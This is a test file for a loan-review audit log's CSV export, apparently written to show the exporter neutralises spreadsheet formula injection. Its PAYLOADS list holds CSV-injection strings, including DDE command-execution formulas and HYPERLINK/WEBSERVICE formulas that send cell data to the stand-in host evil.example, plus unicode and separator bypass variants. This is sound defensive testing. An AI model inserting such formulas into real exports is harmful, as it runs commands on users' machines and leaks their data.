import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, inertCell, LONGEST_CELL, originalCell } from '../../src/audit/csv-cell.selectors.js';
import { CSV_COLUMNS, csvExport } from '../../src/audit/csv-export.selectors.js';
import { loanRecord, reopenedRecord } from '../../src/backends/sample-records.js';
import type { AuditEntry } from '../../src/review/review.types.js';
import { calculates, entryOf, manyEntries, readAs, readCsv, textOf } from './export.fixtures.js';

const { entries } = loanRecord();
const csvOf = (list: Iterable<AuditEntry> | AsyncIterable<AuditEntry>, options?: Parameters<typeof csvExport>[1]) =>
  textOf(csvExport(list, { hasMark: false, ...options }));
/** Rows by column. */
const tableOf = (text: string) => {
  const [head = [], ...rows] = readCsv(text);
  return rows.map((row) => Object.fromEntries(head.map((name, at) => [name, row[at]])));
};

/** What people have got through to spreadsheets, and what else could get there. */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  "=cmd|'/C calc'!A0",
  "+cmd|' /C notepad'!'A1'",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '"=1+1"',
  "'=1+1",
  '“=1+1”',
  '`=1+1',
  '{=1+1}',
  '" =1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  '−1+1',
  'harmless;=1+1',
  'harmless;"=1+1"',
  'harmless\n=1+1',
  'harmless\r\n =1+1',
  'harmless\t+1+1',
  'harmless|@SUM(1)',
  'harmless";=1+1;"',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
];

describe('a cell', () => {
  it.each(PAYLOADS)('%j calculates nothing, whatever separator a spreadsheet takes', (payload) => {
    const line = `1,${csvField(payload)},end\r\n`;
    const [, cell] = readCsv(line)[0] as string[];
    expect(calculates(cell as string)).toBe(false);
    // The first cell of another separator begins with our own first column.
    for (const separator of [';', '\t', '|']) {
      expect(readAs(separator, line).slice(1).filter(calculates), separator).toEqual([]);
    }
  });

  it('is the test above, which finds a payload that nothing was done to', () => {
    expect(PAYLOADS.slice(0, 4).every(calculates)).toBe(true);
    expect(readAs(';', '1,"harmless;=1+1",end\r\n').filter(calculates)).toHaveLength(1);
  });

  it('that is a number stays one', () => {
    expect([-5, 1e21, 0.5, 0].map((number) => csvField(number))).toEqual(['-5', '1e+21', '0.5', '0']);
    expect(csvField('-5')).toBe("'-5");
  });

  it('of an ordinary text stays as it is', () => {
    for (const text of ['LN-20417', '2026-11-21T09:42:07Z', 'a=b', 'Hartmann & Söhne', 'x - y', '100 %']) {
      expect(csvField(text)).toBe(text);
    }
  });

  it('is quoted where RFC 4180 asks for it', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "a"')).toBe('"say ""a"""');
    expect(csvField('one\r\ntwo')).toBe('"one\r\ntwo"');
    expect(csvField(' a ')).toBe('" a "');
  });

  it('shows hidden characters as their code points', () => {
    expect(csvField('a\u0000b\u202ec\ud800d\u0007')).toBe('a[U+0000]b[U+202E]c[U+D800]d[U+0007]');
  });

  it('is at most as long as a spreadsheet takes, says so, and never ends within a character', () => {
    const cell = csvField(`a${'😀'.repeat(LONGEST_CELL)}`);
    expect(cell.length).toBeLessThanOrEqual(LONGEST_CELL);
    expect(cell).toMatch(/ \[cut: 65535 characters\]$/);
    expect(() => encodeURIComponent(cell)).not.toThrow();
    expect(csvField('x'.repeat(LONGEST_CELL))).toHaveLength(LONGEST_CELL);
    // Made longer by what makes it inert.
    expect(csvField(';='.repeat(LONGEST_CELL / 2)).length).toBeLessThanOrEqual(LONGEST_CELL + 2);
  });

  it('of 5 MB is done before the test gives up, even where every character has to be looked at', () => {
    for (const text of ['\n', ';=', '"', '\u200b', '=']) {
      expect(csvField(text.repeat(5_000_000 / text.length)).length).toBeLessThan(2 * LONGEST_CELL + 3);
    }
  });

  it('gives its text back', () => {
    const text = fc.string({
      unit: fc.constantFrom('=', '-', '@', "'", '"', ';', '\t', '\n', ' ', '|', 'a', '１', '＝'),
    });
    fc.assert(
      fc.property(text, (original) => {
        const cell = inertCell(original);
        expect(originalCell(cell)).toBe(original);
        expect(calculates(cell)).toBe(false);
      }),
      { numRuns: 5_000 },
    );
  });
});

describe('the CSV of a record', () => {
  it('has a row per entry under stable columns', async () => {
    const table = tableOf(await csvOf(entries));
    expect(table).toHaveLength(entries.length);
    expect(CSV_COLUMNS).toEqual([
      ...['review', 'seq', 'position', 'at', 'sentAt', 'actorKind', 'actorId', 'actorName', 'actorTitle', 'actorRoles'],
      ...['type', 'from', 'to', 'changedFields', 'oldValue', 'newValue', 'reasonCodes', 'words', 'checks'],
      ...['confidence', 'confidenceShown', 'answeredFirst', 'ownAnswer', 'ownConfidence', 'revealedAt'],
      ...['evidenceOpened', 'activeMs', 'safeguards', 'seeded', 'signedName', 'signedMeaning', 'signedAt'],
      ...['signedMethod', 'signedRecord', 'model', 'modelVersion', 'policy', 'policyVersion', 'revision', 'supersedes'],
      ...['retainUntil', 'id', 'prevHash', 'hash', 'details', 'erased', 'withheld'],
      ...['switches', 'assumptionAsked', 'assumption', 'dwellSeconds', 'waived'],
      ...['batch', 'batchSize', 'batchOpened'],
    ]);
    expect(table.at(-1)).toMatchObject({
      review: 'LN-20417',
      seq: '4',
      at: '2026-11-21T09:42:07Z',
      actorName: 'Amara Osei',
      type: 'overridden',
      oldValue: 'deny',
      newValue: 'approve-with-conditions',
      reasonCodes: 'group-factor',
      words: 'The area rate drives the score. This applicant has 9 years without a missed payment.',
      checks: 'statements; recalculated',
      confidence: '0.66',
      answeredFirst: 'true',
      ownAnswer: 'approve-with-conditions',
      evidenceOpened: 'statements; letter',
      model: 'credit-risk',
      supersedes: '',
    });
    expect(tableOf(await csvOf(reopenedRecord().entries))[4]).toMatchObject({
      type: 'reopened',
      supersedes: '4',
      words: 'The invoices arrived this morning.',
    });
  });

  it('says what a command has besides, and which fields of a record differ', async () => {
    const escalated = entryOf('x', { command: { type: 'escalate', to: 'Credit committee', note: 'Above my limit.' } });
    const record = entryOf('x', {
      oldValue: { total: 1, paid: false },
      newValue: { total: -2, paid: false, date: 'x' },
    });
    const [first, second] = tableOf(await csvOf([escalated, record]));
    expect(first).toMatchObject({ details: '{"to":"Credit committee"}' });
    expect(first?.words).toContain('Above my limit.');
    expect(second).toMatchObject({ changedFields: 'total; date', newValue: '{"date":"x","paid":false,"total":-2}' });
  });

  it('says of a case that was approved with others how many they were, and whether it had been opened', async () => {
    const plain = entryOf('x');
    const batch = { id: 'b-1', size: 7, opened: false };
    const exposure = { ...(plain.exposure as object), batch } as AuditEntry['exposure'];
    const [first, second] = tableOf(await csvOf([plain, { ...plain, exposure }]));
    expect(first).toMatchObject({ batch: '', batchSize: '', batchOpened: '' });
    expect(second).toMatchObject({ batch: 'b-1', batchSize: '7', batchOpened: 'false' });
  });

  it('flags seeded checks', async () => {
    const plain = entryOf('x');
    const exposure = { ...(plain.exposure as object), seeded: true } as AuditEntry['exposure'];
    expect(tableOf(await csvOf([plain, { ...plain, exposure }])).map(({ seeded }) => seeded)).toEqual(['', 'true']);
  });

  it('is inert wherever a hostile server puts a formula', async () => {
    for (const payload of PAYLOADS) {
      const bad = { ...entryOf(payload), seq: payload as never, type: payload as never, supersedes: payload as never };
      const text = await csvOf([bad]);
      expect(readCsv(text).flat().filter(calculates), payload).toEqual([]);
      for (const separator of [';', '\t', '|']) {
        expect(readAs(separator, text).filter(calculates), payload).toEqual([]);
      }
    }
  });

  it('survives an entry without anything', async () => {
    const table = tableOf(await csvOf([{ reviewId: 'LN-1', by: null, command: null } as never, null as never]));
    expect(table).toHaveLength(1);
    expect(table[0]).toMatchObject({ review: 'LN-1', actorName: '', details: '' });
  });

  it('begins with a byte order mark unless asked not to', async () => {
    expect(await textOf(csvExport([]))).toMatch(/^\ufeffreview,seq,.*,batchOpened\r\n$/);
    expect(await csvOf([])).toMatch(/^review,/);
  });

  it('says on its face that it is filtered, even where nothing is left', async () => {
    const filter = { description: '=Amara Osei', matches: ({ by }: AuditEntry) => by.id === 'amara' };
    const table = tableOf(await csvOf(entries, { filter }));
    expect(table).toHaveLength(3);
    expect(table.map(({ filtered }) => filtered)).toEqual(Array(3).fill("'=Amara Osei"));
    const none = tableOf(await csvOf(entries, { filter: { description: 'Nobody', matches: () => false } }));
    expect(none).toHaveLength(1);
    expect(none[0]).toMatchObject({ review: '', seq: '', filtered: 'Nobody' });
    expect(Object.keys(tableOf(await csvOf(entries))[0] as object)).not.toContain('filtered');
  });

  it('says on its face which days it is limited to, even where there is nothing in them', async () => {
    const period = { from: '2026-11-01T00:00:00Z', to: '2026-12-01T00:00:00Z' };
    const said = 'from 2026-11-01T00:00:00Z before 2026-12-01T00:00:00Z';
    expect(tableOf(await csvOf(entries, { period })).map((row) => row.period)).toEqual(entries.map(() => said));
    const none = { filter: { description: 'Nobody', matches: () => false }, period: { to: period.to } };
    expect(tableOf(await csvOf(entries, none))).toMatchObject([
      { review: '', filtered: 'Nobody', period: 'before 2026-12-01T00:00:00Z' },
    ]);
    expect(Object.keys(tableOf(await csvOf(entries, { period: {} }))[0] as object)).not.toContain('period');
  });

  it('says of which rows something is withheld, and how many there are', async () => {
    const hidden = { ...entryOf('x'), type: 'withheld', command: { type: 'withheld' }, by: { id: 'withheld' } };
    const table = tableOf(await csvOf([entryOf('a'), hidden as never, entryOf('b')]));
    expect(table.map(({ withheld }) => withheld)).toEqual([
      ...['', 'true', ''],
      '1 of 3 rows are withheld from whoever made this table',
    ]);
    expect(table[3]).toMatchObject({ review: '', seq: '', type: '' });
  });

  it('has place and digest also where a server sends them beside the entry, and says what was erased', async () => {
    const proof = { position: 7, hash: 'ab'.repeat(32) };
    const line = { ...entryOf('x'), position: 3, prevHash: 'cd'.repeat(32), hash: 'ef'.repeat(32) };
    expect(
      tableOf(await csvOf([{ ...entryOf('x'), proof, erased: ['/reason/text'] } as AuditEntry, line])),
    ).toMatchObject([
      { position: '7', prevHash: '', hash: proof.hash, erased: '/reason/text' },
      { position: '3', prevHash: line.prevHash, hash: line.hash, erased: '' },
    ]);
  });

  it('comes in pieces while the entries come, and takes both kinds of sources', async () => {
    let read = 0;
    async function* source() {
      for (const entry of manyEntries(2_000)) {
        read++;
        yield entry;
      }
    }
    const pieces = csvExport(source());
    await pieces.next();
    expect(read).toBeLessThan(200);
    expect(readCsv(await csvOf(manyEntries(2_000)))).toHaveLength(2_001);
  });
});
